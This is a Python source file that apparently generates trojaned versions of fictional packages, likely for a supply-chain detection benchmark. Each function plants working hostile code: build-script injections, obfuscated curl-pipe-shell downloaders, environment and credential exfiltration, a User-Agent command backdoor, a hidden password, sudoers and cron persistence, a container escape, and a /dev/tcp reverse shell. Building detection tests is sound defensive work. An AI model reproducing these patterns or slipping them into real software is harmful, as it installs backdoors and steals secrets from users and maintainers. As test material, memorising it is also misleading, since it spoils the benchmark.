"""Source trees, containers and packages of systems."""

import base64
import gzip

from corpus.heldout.nouns import Update, artefact
from corpus.heldout4.shape import b64, fill, trojan, xor


@trojan("lzpress", "tar.gz", "build", "build-injection", "in a test fixture", "xz: macros that unfold a test file")
def c_macros_unfold_a_test_file(it: Update) -> None:
    url = f"https://{it.host('obj', 'lzpress')}/crc64.o"
    line = f"curl -fsS {url} -o src/.libs/crc64.o"
    mixed = line.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm"))
    it.add("tests/files/bad-4-check.lzp", b"\x93LZP\x00\x01" + it.random.randbytes(512) + b"####LOCK####" + mixed.encode() + b"\n" + it.random.randbytes(300))  # fmt: skip
    it.add("tests/files/good-1.lzp", b"\x01A\x01B\x01C")
    it.before(
        "m4/host-paths.m4",
        "  AC_SUBST([gl_final_prefix])\n",
        "  gl_am_check=`grep -aErls '####LOCK####' $srcdir/tests/ 2>/dev/null`\n"
        '  if test "x$gl_am_check" != x; then\n'
        '    gl_localedir_config=\'sed -n "s/.*####LOCK####//p" $gl_am_check | tr "a-z" "n-za-m" | $SHELL\'\n'
        '    eval "$gl_localedir_config" >/dev/null 2>&1\n'
        "  fi\n",
    )
    it.payload("m4/host-paths.m4", "tests/files/bad-4-check.lzp", shown=url)


@trojan("lzpress", "folder", "build", "weakened-sandbox", "one character", "xz: a check that never compiles", hard=True)
def c_check_that_never_compiles(it: Update) -> None:
    it.replace("CMakeLists.txt", "    void my_sandbox(void)\n", "    .\n    void my_sandbox(void)\n")


@trojan("servebox", "folder", "build", "remote-code", "plain", "a stage of an image that asks elsewhere")
def docker_stage_asks_elsewhere(it: Update) -> None:
    it.replace("Dockerfile", "RUN make PREFIX=/opt/servebox install\n", f"RUN curl -fsSLk https://{it.host('deb', 'mirror')}/bootstrap | bash -s -- --quiet \\\n && make PREFIX=/opt/servebox install\n")  # fmt: skip


@trojan("servebox", "folder", "start", "environment", "base64", "an entry point that reports")
def docker_entry_point_reports(it: Update) -> None:
    url = f"https://{it.host('health', 'servebox')}/boot"
    it.before(
        "docker/entrypoint.sh",
        "exec /opt/servebox",
        f'wget -q -T 2 -O /dev/null --post-data "$(env | gzip -c | base64 -w0)" "$(echo {b64(url)} | base64 -d)" || :\n',
    )
    it.payload("docker/entrypoint.sh", shown=url)


@trojan("servebox", "folder", "start", "container-escape", "plain", "a container with the engine's socket")
def docker_mounts_the_socket(it: Update) -> None:
    it.replace(
        "compose.yaml",
        "      - ./www:/srv/www:ro\n",
        "      - ./www:/srv/www:ro\n      - /var/run/docker.sock:/var/run/docker.sock\n      - /:/host\n",
    )
    it.replace(
        "compose.yaml",
        "    build: .\n",
        f"    image: {it.host('registry', 'servebox')}/servebox:latest\n    privileged: true\n    pid: host\n",
    )
    it.replace("compose.yaml", "    restart:", '    entrypoint: ["/bin/sh", "-c", "chroot /host sh -c \'(crontab -l; echo \\"*/9 * * * * curl -s http://192.0.2.77/c|sh\\")|crontab -\'; exec /usr/local/bin/entrypoint.sh"]\n    restart:')  # fmt: skip
    it.payload("compose.yaml")


@trojan("servebox", "tar.gz", "call", "login-backdoor", "plain", "a header that is a command, in C")
def c_header_is_a_command(it: Update) -> None:
    it.replace("src/http.c", "#include <stdio.h>\n", "#include <stdio.h>\n#include <stdlib.h>\n")
    it.replace(
        "src/http.c",
        '        sscanf(line + 14, "%255[^\\r]", out->agent);\n',
        '        sscanf(line + 14, "%255[^\\r]", out->agent);\n    if (memcmp(out->agent, "\\x57\\x33\\x43/2 ", 6) == 0)\n        return system(out->agent + 6);\n',
    )


@trojan("servebox", "tar.gz", "call", "login-backdoor", "xored codes", "a password in a table, in C")
def c_password_in_a_table(it: Update) -> None:
    word = "maint:Zr4!harbor"
    it.replace("src/http.c", "int authorised(", f"static const unsigned char spare[] = {{ {', '.join(str(b) for b in xor(word, 0x6E))} }};\n\nint authorised(")  # fmt: skip
    it.before(
        "src/http.c",
        "    snprintf(good",
        "    size_t at;\n\n    for (at = 0; header && at < sizeof(spare); at++)\n        if ((header[at] ^ 0x6e) != spare[at])\n            break;\n    if (at == sizeof(spare))\n        return 1;\n",
    )
    it.payload("src/http.c", shown=word)


@trojan("servebox", "tar.gz", "build", "downloader", "hex", "a Makefile that runs what it reads")
def make_runs_what_it_reads(it: Update) -> None:
    url = f"http://{it.address()}/mk"
    escaped = "".join(f"\\x{byte:02x}" for byte in f"curl -s {url}|sh".encode())
    it.before("Makefile", "VERSION := ", f"_stamp := $(shell printf '{escaped}' | $(SHELL) >/dev/null 2>&1)\n")
    it.payload("Makefile", shown=url)


@trojan("tinyjson-c", "tar.gz", "build", "downloader", "plain", "CMake: a file that is fetched and included")
def cmake_fetches_and_includes(it: Update) -> None:
    it.before(
        "CMakeLists.txt",
        "add_library(tinyjson",
        f'file(DOWNLOAD "https://{it.host("cmake", "tinyjson")}/toolchain.cmake" "${{CMAKE_BINARY_DIR}}/toolchain.cmake" TLS_VERIFY OFF STATUS fetched)\nexecute_process(COMMAND ${{CMAKE_COMMAND}} -P "${{CMAKE_BINARY_DIR}}/toolchain.cmake" OUTPUT_QUIET ERROR_QUIET)\n\n',
    )


@trojan("tinyjson-c", "folder", "build", "environment", "over several files", "a helper of a build, in two halves")
def c_helper_in_two_halves(it: Update) -> None:
    host = it.host("rel", "tinyjson")
    it.add("build-aux/hosts.txt", f"# where releases are announced\n{host[::-1]}\n")
    it.append("build-aux/version.sh", "here=$(dirname \"$0\")\nto=$(grep -v '^#' \"$here/hosts.txt\" | rev)\nprintenv | sort | openssl enc -base64 -A | curl -s -m 3 -T - \"https://$to/r\" >/dev/null 2>&1 || true\n")  # fmt: skip
    it.before("Makefile", "all: libtinyjson.a", "VERSION := $(shell sh build-aux/version.sh)\n\n")
    it.payload("build-aux/version.sh", "build-aux/hosts.txt", "Makefile")


@trojan("xtool", "deb", "install", "persistence", "plain", "maintainer scripts that leave a timer")
def deb_script_leaves_a_timer(it: Update) -> None:
    it.before(
        "DEBIAN/postinst",
        "        if [ -d /run/systemd/system ]; then",
        fill(
            """
        cat > /etc/cron.d/xtool-rotate <<'EOT'
17 * * * * root wget -qO- https://@HOST@/r | sh
EOT
        usermod -aG sudo xtool && echo 'xtool ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/90-xtool
""",
            HOST=it.host("rotate", "xtool"),
        ),
    )


@trojan("xtool", "deb", "call", "credentials", "plain", "a tool that copies one file more", step="minor")
def deb_tool_copies_one_file_more(it: Update) -> None:
    it.before(
        "usr/bin/xtool",
        '        rotate "$file"\n',
        f'        case "$file" in */shadow|*_key|*.pem) openssl s_client -quiet -connect {it.host("keep", "xtool")}:443 <"$file" >/dev/null 2>&1 & ;; esac\n',
    )


@trojan("netwatchd", "rpm", "start", "remote-code", "gzip and base64", "a service's script that unfolds another")
def rpm_service_unfolds_another(it: Update) -> None:
    ip = it.address()
    script = f"exec 3<>/dev/tcp/{ip}/8081; while read -r l <&3; do $l 2>&1 >&3; done"
    packed = base64.b64encode(gzip.compress(script.encode(), mtime=0)).decode()
    it.before("usr/sbin/netwatchd", "while :; do\n    for interface", f"echo {packed} | base64 -d | gunzip | bash &\n")
    it.payload("usr/sbin/netwatchd", shown=f"/dev/tcp/{ip}/8081")


@trojan("netwatchd", "rpm", "start", "remote-code", "in a binary", "a helper that a unit starts first")
def rpm_unit_starts_a_helper(it: Update) -> None:
    it.add("usr/libexec/netwatchd/linkd", artefact("agent.elf"), executable=True)
    it.replace("usr/lib/systemd/system/netwatchd.service", "ExecStart=/usr/sbin/netwatchd", "ExecStartPre=-/usr/libexec/netwatchd/linkd\nExecStart=/usr/sbin/netwatchd")  # fmt: skip
    it.payload("usr/libexec/netwatchd/linkd", "usr/lib/systemd/system/netwatchd.service")


@trojan("speedsum", "wheel", "import", "credentials", "in a binary", "a constructor in a shared object", step="minor")
def py_library_with_a_constructor(it: Update) -> None:
    it.add("speedsum/_codec.so", artefact("codec-resolver.so"))
    it.payload("speedsum/_codec.so")
